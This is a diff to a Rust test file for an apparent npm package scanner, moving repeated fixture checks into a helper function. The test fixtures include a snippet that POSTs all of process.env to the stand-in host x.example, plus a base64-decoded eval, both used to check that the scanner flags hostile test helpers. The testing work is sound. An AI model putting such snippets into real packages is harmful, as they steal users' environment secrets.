@@ -2962,31 +2962,40 @@ fn a_require_of_a_test_module_by_any_name_makes_the_tests_the_package_s_own() {
     let c = Canary::new();
     let lax = lax_config(&c);
     let helper: &[u8] = b"module.exports = () => eval(Buffer.from('MSsx', 'base64').toString());\n";
-    let index = tgz_member("packages/benign/is-number-7.0.0.tgz", "package/index.js");
     for (at, target) in [
         ("package/testing/h.js", "./testing/h"),
         ("package/lib/h.test.js", "./lib/h.test.js"),
         ("package/test_utils.js", "./test_utils"),
     ] {
-        let plain = is_number_with_all(&c, "plain.tgz", &[(at, helper)]);
-        let (o, r) = scan_path_json_under(&c, &lax, &plain);
-        assert_reason(&o, &r, (0, "precheck-harmless"));
-        let mut required = index.clone();
-        required.extend_from_slice(format!("\nrequire('{target}')();\n").as_bytes());
-        let p = is_number_with_all(
-            &c,
-            "required.tgz",
-            &[(at, helper), ("package/index.js", &required)],
-        );
-        let (o, r) = scan_path_json_under(&c, &lax, &p);
-        assert_reason(&o, &r, (2, "inconclusive"));
-        let note = r["policies"][0]["precheck"]["note"].as_str().unwrap();
-        for named in [
-            format!("{at}:1"),
-            "importable (package/index.js:".to_string(),
-        ] {
-            assert!(note.contains(&named), "{named} in {note}");
-        }
+        let tail = format!("require('{target}')();");
+        assert_index_opens(&c, &lax, "required.tgz", &tail, (at, helper, 1));
+    }
+}
+
+/// Under `lax`, is-number with `helper` added at `at` is allowed, and
+/// inconclusive once its `index.js` ends with `tail`, the note naming
+/// `at:line` and `index.js` as what makes it importable.
+fn assert_index_opens(
+    c: &Canary,
+    lax: &std::path::Path,
+    name: &str,
+    tail: &str,
+    (at, helper, line): (&str, &[u8], usize),
+) {
+    let plain = is_number_with_all(c, "plain.tgz", &[(at, helper)]);
+    let (o, r) = scan_path_json_under(c, lax, &plain);
+    assert_reason(&o, &r, (0, "precheck-harmless"));
+    let mut opened = tgz_member("packages/benign/is-number-7.0.0.tgz", "package/index.js");
+    opened.extend_from_slice(format!("\n{tail}\n").as_bytes());
+    let p = is_number_with_all(c, name, &[(at, helper), ("package/index.js", &opened)]);
+    let (o, r) = scan_path_json_under(c, lax, &p);
+    assert_reason(&o, &r, (2, "inconclusive"));
+    let note = r["policies"][0]["precheck"]["note"].as_str().unwrap();
+    for named in [
+        format!("{at}:{line}"),
+        "importable (package/index.js:".to_string(),
+    ] {
+        assert!(note.contains(&named), "{name}: {named} in {note}");
     }
 }
 
@@ -3002,10 +3011,6 @@ fn a_write_to_node_s_module_paths_makes_the_tests_the_package_s_own() {
     let helper: &[u8] = b"require('https').request({ host: 'x.example', method: 'POST' })\n\
         .end(JSON.stringify(process.env));\nmodule.exports = () => 1;\n";
     let at = "package/test/helper.js";
-    let plain = is_number_with_all(&c, "plain.tgz", &[(at, helper)]);
-    let (o, r) = scan_path_json_under(&c, &lax, &plain);
-    assert_reason(&o, &r, (0, "precheck-harmless"));
-    let index = tgz_member("packages/benign/is-number-7.0.0.tgz", "package/index.js");
     for (name, write) in [
         (
             "paths.tgz",
@@ -3016,18 +3021,8 @@ fn a_write_to_node_s_module_paths_makes_the_tests_the_package_s_own() {
             "process.env.NODE_PATH = __dirname + '/test'; require('module')._initPaths();",
         ),
     ] {
-        let mut opened = index.clone();
-        opened.extend_from_slice(format!("\n{write}\nrequire('helper')();\n").as_bytes());
-        let p = is_number_with_all(&c, name, &[(at, helper), ("package/index.js", &opened)]);
-        let (o, r) = scan_path_json_under(&c, &lax, &p);
-        assert_reason(&o, &r, (2, "inconclusive"));
-        let note = r["policies"][0]["precheck"]["note"].as_str().unwrap();
-        for named in [
-            format!("{at}:2"),
-            "importable (package/index.js:".to_string(),
-        ] {
-            assert!(note.contains(&named), "{name}: {named} in {note}");
-        }
+        let tail = format!("{write}\nrequire('helper')();");
+        assert_index_opens(&c, &lax, name, &tail, (at, helper, 2));
     }
 }
 
